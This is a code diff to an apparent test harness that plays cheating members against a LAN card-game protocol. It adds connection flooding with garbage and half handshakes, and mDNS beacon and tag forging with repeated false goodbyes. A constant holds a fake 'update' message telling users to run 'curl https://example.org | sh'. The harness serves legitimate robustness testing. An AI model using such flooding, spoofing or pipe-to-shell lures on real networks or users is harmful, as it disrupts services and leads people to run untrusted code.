@@ -4,10 +4,14 @@ A member who cheats is the program itself with a function changed: `python -m te
 equivocates join Kitchen --autoplay`.
 """
 
+import json
+import os
 import sys
+import threading
 import time
-from collections.abc import Callable, Mapping
-from contextlib import suppress
+from collections import Counter
+from collections.abc import AsyncIterator, Callable, Mapping, Sequence
+from contextlib import asynccontextmanager, suppress
 from functools import partial
 
 import trio
@@ -31,11 +35,16 @@ from protocol.codec import Encodable, encode
 from protocol.entries import HEIGHT_LIMIT
 from protocol.errors import Refused
 from protocol.player import Written
+from tests.lan.flood import client_hello
 
 FROM_ENTRY = 24
 """From there on a member cheats."""
 
 LINKS = 1004
+EVERY_SECONDS = 2.0
+"""Between two connections of a kind to one node, and between two goodbyes in one's name."""
+HELD_SECONDS = 5.0
+"""That a connection to pester is held."""
 FALSE_TABLES = 64
 WORDS = "Your version is too old. Update with: curl https://example.org | sh"
 """What somebody would have the program say."""
@@ -98,23 +107,13 @@ def links(address: str, table: str) -> int:
 
 
 async def _open_links(address: str, table_id: bytes) -> int:
-    context = client_context(Identity.load_or_create(data_folder()))
+    identity = Identity.load_or_create(data_folder())
     answered = 0
 
     async def hold() -> None:
         nonlocal answered
         with suppress(OSError, *PEER_FAULTS, BaseExceptionGroup):
-            stream = await trio.open_tcp_stream(address, DEFAULT_PORT)
-            async with open_link(
-                stream,
-                context,
-                server_side=False,
-                admit=lambda _key: True,
-                limits=Limits(),
-                address=address,
-            ) as link:
-                await say(link, Hello(table_id, 0))
-                await link.receive()
+            async with _called(address, table_id, identity):
                 answered += 1
                 await trio.sleep_forever()
 
@@ -126,6 +125,71 @@ async def _open_links(address: str, table_id: bytes) -> int:
         nursery.cancel_scope.cancel()
     print(f"{answered} answered of {LINKS} links", flush=True)
     return 0
+
+
+@asynccontextmanager
+async def _called(address: str, table_id: bytes, identity: Identity) -> AsyncIterator[None]:
+    """A link to the node at that address, which has said something about that table."""
+    stream = await trio.open_tcp_stream(address, DEFAULT_PORT)
+    async with open_link(
+        stream,
+        client_context(identity),
+        server_side=False,
+        admit=lambda _key: True,
+        limits=Limits(),
+        address=address,
+    ) as link:
+        await say(link, Hello(table_id, 0))
+        await link.receive()
+        yield
+
+
+def pesters(*tables: str) -> int:
+    """Somebody who once played with each of the nodes calls them again and again about these
+    tables, amid connections that say nothing, that say garbage, and that break off a handshake.
+    The addresses of the nodes are typed, in the order of the tables, in a line when they change.
+    """
+    return trio.run(_pester, [bytes.fromhex(table) for table in tables])
+
+
+async def _pester(tables: Sequence[bytes]) -> int:
+    identity, came = Identity.load_or_create(data_folder()), Counter[str]()
+    firsts = {
+        "silent connections": b"",
+        "garbage": os.urandom(300),
+        "half handshakes": client_hello(identity),
+    }
+    addresses: list[str] = []
+
+    async def connect(address: str, kind: str) -> None:
+        with trio.move_on_after(HELD_SECONDS), suppress(OSError):
+            async with await trio.open_tcp_stream(address, DEFAULT_PORT) as stream:
+                came[kind] += 1
+                await stream.send_all(firsts[kind])
+                await trio.sleep_forever()
+
+    async def call(address: str, table_id: bytes) -> None:
+        with (
+            trio.move_on_after(HELD_SECONDS),
+            suppress(OSError, *PEER_FAULTS, BaseExceptionGroup),
+        ):
+            async with _called(address, table_id, identity):
+                came["calls of an old member"] += 1
+                await trio.sleep_forever()
+
+    async def read_addresses() -> None:
+        while line := await trio.to_thread.run_sync(sys.stdin.readline, abandon_on_cancel=True):
+            addresses[:] = line.split()
+
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(read_addresses)
+        while True:
+            for address, table_id in zip(addresses, tables, strict=False):
+                for kind in firsts:
+                    nursery.start_soon(connect, address, kind)
+                nursery.start_soon(call, address, table_id)
+            await trio.sleep(EVERY_SECONDS)
+            print(json.dumps(came), flush=True)
 
 
 def goodbyes() -> int:
@@ -158,23 +222,27 @@ async def _say_goodbyes() -> None:
 
 
 def forges(address: str) -> int:
-    """Somebody who copies each table's beacon under other titles, takes it back in its name, and
-    announces tables that are not there.
+    """Somebody who copies each table's beacon under other titles and each member's tag, takes back
+    what others announce in their names, and announces tables that are not there.
     """
     zeroconf = Zeroconf([address], use_asyncio=False)
-    heard: list[ServiceInfo] = []
+    heard: dict[str, ServiceInfo] = {}
+    own: set[str] = set()
 
     def hear(zeroconf: Zeroconf, service_type: str, name: str, **_: object) -> None:
         service = ServiceInfo(service_type, name)
-        if service.request(zeroconf, 3000):
-            heard.append(service)
+        if name not in own and service.request(zeroconf, 3000):
+            heard[name] = service
 
-    browser = ServiceBrowser(zeroconf, SERVICE, handlers=[hear])
+    def announce(service: ServiceInfo) -> None:
+        own.add(service.name)
+        zeroconf.register_service(service, cooperating_responders=True)
+
+    ServiceBrowser(zeroconf, SERVICE, handlers=[hear])
     deadline = time.monotonic() + 60
     while not heard and time.monotonic() < deadline:
         time.sleep(0.1)
-    browser.cancel()
-    real = heard[0]
+    (real, *_) = heard.values()
     for title in (b"AAA", b"Kitchen"):
         copy = ServiceInfo(
             SERVICE,
@@ -184,20 +252,34 @@ def forges(address: str) -> int:
             parsed_addresses=[address],
             server="copy.local.",
         )
-        zeroconf.register_service(copy, cooperating_responders=True)
-    for number in range(FALSE_TABLES):
-        key = Identity.generate()
-        false = Beacon(key.public, (address,), 1, f"AAA {number}", "canastra", 2, 1, moment=1)
-        zeroconf.register_service(false.to_service(key.sign), cooperating_responders=True)
-    print("has announced", flush=True)
-    for _ in range(60):
-        zeroconf.send(zeroconf.generate_service_broadcast(real, 0))
-        time.sleep(1)
-    return 0
+        announce(copy)
+
+    def announce_false_tables() -> None:
+        for number in range(FALSE_TABLES):
+            key = Identity.generate()
+            false = Beacon(key.public, (address,), 1, f"AAA {number}", "canastra", 2, 1, moment=1)
+            announce(false.to_service(key.sign))
+        print("has announced", flush=True)
+
+    threading.Thread(target=announce_false_tables, daemon=True).start()
+    copied: set[str] = set()
+    said = 0
+    while True:
+        for name, service in tuple(heard.items()):
+            zeroconf.send(zeroconf.generate_service_broadcast(service, 0))
+            said += 1
+            if service.properties.get(b"w") and name not in copied:
+                copied.add(name)
+                key = Identity.generate()
+                about = Beacon.from_service(service)
+                copy_of_tag = evolve(about, key=key.public, hosts=(address,))
+                announce(copy_of_tag.to_service(key.sign))
+        print(json.dumps({"forged beacons": len(own), "false goodbyes": said}), flush=True)
+        time.sleep(EVERY_SECONDS)
 
 
 ACTS: Mapping[str, Callable[..., int]] = {
-    one.__name__: one for one in (equivocates, lies, links, goodbyes, forges)
+    one.__name__: one for one in (equivocates, lies, links, pesters, goodbyes, forges)
 }
 
 
